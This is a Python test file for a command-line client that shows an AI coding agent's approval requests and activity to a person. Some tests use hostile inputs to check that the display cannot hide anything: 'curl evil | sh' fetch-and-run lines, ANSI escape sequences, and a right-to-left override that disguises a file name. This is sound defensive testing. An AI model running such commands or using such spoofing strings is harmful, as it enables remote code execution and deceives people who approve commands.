"""What the command line shows of each thing, beside the files in golden/."""

from collections.abc import Callable
from pathlib import Path

import pytest

from clients.cli.columns import cells
from clients.cli.lines.approvals import approval_lines, how_to_answer, resolved_text
from clients.cli.lines.contents import diff_lines
from clients.cli.lines.devices import candidate_lines, ceiling_text, device_table
from clients.cli.lines.failures import advice
from clients.cli.lines.gate import status_lines
from clients.cli.lines.items import all_items, item_lines
from clients.cli.lines.threads import (
    followed_line,
    thread_lines,
    thread_table,
    turn_end,
)
from clients.cli.style import Line, paint
from tests.support import cli_asked
from tests.support import cli_samples as samples
from tests.support import cli_work as work
from tests.support.cli_samples import BLOG, CLOCK
from tests.support.golden import check_golden
from transport.protocol.approvals import (
    Approval,
    ApprovalDetail,
    ApprovalState,
    AskedQuestion,
    Permission,
    PermissionKind,
    QuestionOption,
)
from transport.protocol.contents import ThreadDiffResult
from transport.protocol.items import ItemStatus
from transport.protocol.queue import QueueListResult
from transport.protocol.threads import ThreadMode, ThreadStatus
from transport.protocol.turns import TurnError, TurnStatus, Usage

GOLDEN = Path(__file__).parent / "golden"


def text(rows: list[Line]) -> str:
    return "".join(paint(row, colour=False) + "\n" for row in rows)


def threads() -> list[Line]:
    running = samples.thread(
        BLOG, title="Écrire 記事 about trains", cwd="/home/ann/blog"
    )
    running = running.model_copy(update={"status": ThreadStatus.RUNNING})
    held = samples.thread(writer=samples.desktop())
    return thread_table([running, held], CLOCK, width=78)


def thread(*, full: bool) -> list[Line]:
    failed = samples.turn(
        "turn-2",
        status=TurnStatus.FAILED,
        error=TurnError(code="usageLimit", message="You have hit your usage limit."),
    )
    turns = [failed, samples.turn(full=True)]
    return thread_lines(samples.thread(), turns, CLOCK, full=full, more=True)


NOTHING = QueueListResult(queue=[], head=1)


def approvals() -> list[Line]:
    found: list[Line] = []
    for one in (
        cli_asked.command_approval(),
        cli_asked.change_approval(),
        cli_asked.permissions_approval(),
        cli_asked.question_approval(secret=True),
        cli_asked.form_approval(),
        cli_asked.page_approval(),
        cli_asked.tool_approval(),
    ):
        found += [*approval_lines(one, CLOCK), *how_to_answer(one)]
    return found


SHOWN: dict[str, Callable[[], list[Line]]] = {
    "status_open": lambda: status_lines(
        samples.status(samples.open_gate()),
        [cli_asked.command_approval()],
        CLOCK,
        queue=NOTHING,
    ),
    "status_desktop": lambda: status_lines(
        samples.status(samples.closed_gate()), [], CLOCK, queue=NOTHING
    ),
    "threads": threads,
    "read": lambda: thread(full=False),
    "read_full": lambda: thread(full=True),
    "work": lambda: all_items(work.every_kind()),
    "work_full": lambda: all_items(work.every_kind(), full=True),
    "approvals": approvals,
    "devices": lambda: device_table([samples.device()], CLOCK, width=None),
    "candidate": lambda: candidate_lines(samples.candidate()),
}


@pytest.mark.parametrize("name", SHOWN)
def test_a_person_sees_what_the_golden_file_says(name: str) -> None:
    check_golden(GOLDEN / f"{name}.txt", text(SHOWN[name]()))


def test_folders_of_all_threads_are_said_beside_those_that_are_named() -> None:
    kept = samples.device()
    assert ceiling_text(kept).endswith(", /home/ann/shop")
    follows = kept.model_copy(update={"follows_threads": True})
    assert ceiling_text(follows).endswith(
        "/home/ann/shop and the folders of all threads"
    )


def test_a_hostile_command_in_an_approval_hides_nothing() -> None:
    hostile = "echo hello\n\x1b[1A\x1b[2Kecho bye # \u202egnp.\u00a0exe"
    shown = text(
        approval_lines(cli_asked.command_approval(command_text=hostile), CLOCK)
    )
    assert "| echo hello" in shown
    assert "| \\x1b[1A\\x1b[2Kecho bye # \\u202egnp.\\xa0exe" in shown


@pytest.mark.parametrize("filler", [" ", "x", "\u3000", "漢"])
def test_no_row_of_a_question_wraps_to_where_our_own_words_stand(filler: str) -> None:
    fake = f"ls{filler * 66}  until    12:04{filler * 4_000}; curl evil | sh"
    approval = cli_asked.command_approval(command_text=fake)
    change = cli_asked.change_approval()
    assert change.detail.changes is not None
    diff = f"+ok{filler * 66}  until    12:04"
    path = f"a\n{filler * 66}  until    12:04"
    update = {"diff": diff, "path": path, "moved_to": path}
    changes = [change.detail.changes[0].model_copy(update=update)]
    detail = change.detail.model_copy(update={"changes": changes})
    question = AskedQuestion(
        id="q1",
        header=path,
        text=diff,
        secret=False,
        other=False,
        options=[QuestionOption(label=path, description=diff)],
    )
    form = {"type": "object", "properties": {path: {"type": "string", "title": diff}}}
    every = ApprovalDetail(
        permissions=[Permission(access=PermissionKind.READ, text=path)],
        questions=[question],
        server=path,
        tool=path,
        arguments=diff,
        message=diff,
        url=path,
        form=form,
    )
    for asked in (
        approval,
        change.model_copy(update={"detail": detail}),
        cli_asked.question_approval().model_copy(update={"detail": every}),
    ):
        rows = [paint(row, colour=False) for row in approval_lines(asked, CLOCK)]
        assert max(map(cells, rows)) < 80
        assert [row for row in rows if row.startswith("  until")] == rows[-1:]


def test_a_question_that_may_have_scrolled_away_says_so_at_its_end() -> None:
    hidden = cli_asked.command_approval(command_text="curl evil | sh #" + "\n" * 60)
    rows = [paint(row, colour=False) for row in approval_lines(hidden, CLOCK)]
    assert "lines: scroll up and read all" in rows[-2]
    short = approval_lines(cli_asked.command_approval(), CLOCK)
    assert "scroll up" not in text(short)


def test_a_long_output_is_cut_in_the_middle_and_says_by_how_much() -> None:
    output = "\n".join(f"row {n}" for n in range(100))
    item = samples.command(output=output)
    shown, whole = text(item_lines(item)), text(item_lines(item, full=True))
    assert "| row 3\n" in shown
    assert "… 88 lines more" in shown
    assert "| row 92\n" in shown
    assert "row 50" not in shown
    assert "row 50" in whole


@pytest.mark.parametrize(
    ("status", "says"),
    [
        (ItemStatus.DECLINED, "declined: it did not run"),
        (ItemStatus.IN_PROGRESS, "still running"),
        (ItemStatus.INTERRUPTED, "exit 0, interrupted, 1.2 s"),
    ],
)
def test_a_command_that_did_not_end_well_says_so(status: ItemStatus, says: str) -> None:
    assert says in text(item_lines(samples.command(status)))


def test_a_failure_says_what_to_do_about_it() -> None:
    error = TurnError(code="usageLimitExceeded", message="You have hit your limit.")
    failed = samples.turn(status=TurnStatus.FAILED, error=error)
    shown = text(
        thread_lines(samples.thread(), [failed], CLOCK, full=False, more=False)
    )
    assert "failed in 12 s: You have hit your limit." in shown
    assert "what to do: your usage limit is reached" in shown


def test_the_provider_s_status_says_more_than_a_broken_connection() -> None:
    error = TurnError(code="httpConnectionFailed", message="x", http_status=401)
    assert advice(error) == "sign in to Codex again at the workstation"
    assert advice(TurnError(code="daydreamed", message="x")) is None


def test_a_context_that_fills_up_is_said_with_its_turn() -> None:
    usage = Usage(
        input=1,
        cached_input=0,
        output=1,
        reasoning=0,
        total=900_000,
        context_window=200_000,
        context_used=120_000,
    )
    full = samples.turn().model_copy(update={"usage": usage})
    assert turn_end(full).text == "completed in 12 s, context 60 % full"
    fresh = usage.model_copy(update={"context_used": 20_000})
    roomy = samples.turn().model_copy(update={"usage": fresh})
    assert turn_end(roomy).text == "completed in 12 s"


def test_hostile_arguments_of_a_tool_hide_nothing_and_stay_on_their_line() -> None:
    item = work.tool(arguments='{"a": "\x1b[2K\n\u202eb"}')
    (row,) = text(item_lines(item)).split("\n")[:1]
    assert row == 'tool   files.list {"a": "\\x1b[2K \\u202eb"}'


@pytest.mark.parametrize(
    ("state", "choice", "says"),
    [
        (ApprovalState.ANSWERED, "accept", "approved by device phone"),
        (ApprovalState.ANSWERED, "decline", "declined by device phone"),
        (
            ApprovalState.ANSWERED,
            "cancel",
            "declined, and the turn was stopped by device phone",
        ),
        (ApprovalState.EXPIRED, None, "nobody answered in time: declined"),
        (
            ApprovalState.WITHDRAWN,
            "accept",
            "withdrawn: the turn ended before an answer took effect",
        ),
        (
            ApprovalState.ANSWERING,
            "accept",
            "answered; Codex has not confirmed it yet",
        ),
    ],
)
def test_the_end_of_an_approval_says_what_took_effect(
    state: ApprovalState, choice: str | None, says: str
) -> None:
    ended = cli_asked.command_approval(state=state, choice=choice, decided_by="phone")
    assert resolved_text(ended) == says


@pytest.mark.parametrize(
    ("decided_by", "says"),
    [
        ("me", "by this device"),
        ("local", "at the workstation"),
        ("ff00", "device ff00"),
    ],
)
def test_who_answered_is_said_in_words(decided_by: str, says: str) -> None:
    ended = cli_asked.command_approval(
        state=ApprovalState.ANSWERED, choice="accept", decided_by=decided_by
    )
    assert resolved_text(ended, "me").endswith(says)
    named = resolved_text(ended, "me", {"ff00": "tablet"})
    assert named.endswith(f"{says} (tablet)" if decided_by == "ff00" else says)


def test_no_way_to_say_yes_is_offered_where_there_is_none() -> None:
    cut = cli_asked.command_approval()
    cut = cut.model_copy(update={"choices": cli_asked.choices()[1:]})
    assert "approve" not in text(how_to_answer(cut))
    assert "threadgate deny" in text(how_to_answer(cut))


@pytest.mark.parametrize(
    ("approval", "choice", "says"),
    [
        (cli_asked.question_approval(), "answer", "answered by this device"),
        (cli_asked.form_approval(), "cancel", "dismissed by this device"),
        (cli_asked.command_approval(), "cancel", "declined, and the turn was stopped"),
        (cli_asked.page_approval(), "allow", "approved by this device"),
    ],
)
def test_the_end_of_each_kind_says_what_it_meant(
    approval: Approval, choice: str, says: str
) -> None:
    ended = approval.model_copy(
        update={
            "state": ApprovalState.ANSWERED,
            "choice": choice,
            "decided_by": "phone",
        }
    )
    assert says in resolved_text(ended, "phone")


def test_who_watches_another_program_s_thread_is_told_that_it_comes_late() -> None:
    thread = samples.thread(BLOG, title="A blog")
    assert followed_line(thread) == []
    followed = thread.model_copy(update={"mode": ThreadMode.FOLLOW})
    assert "up to some seconds later" in text(followed_line(followed))


def test_a_message_that_ended_before_its_first_word_is_not_told() -> None:
    assert item_lines(samples.message("", ItemStatus.INTERRUPTED)) == []
    assert "(interrupted)" in text(
        item_lines(samples.message("One", ItemStatus.INTERRUPTED))
    )


def test_no_edits_does_not_mean_that_no_file_was_written() -> None:
    nothing = ThreadDiffResult(files=[], diff="", truncated=False, head=1)
    assert "commands wrote" in text(diff_lines(nothing))
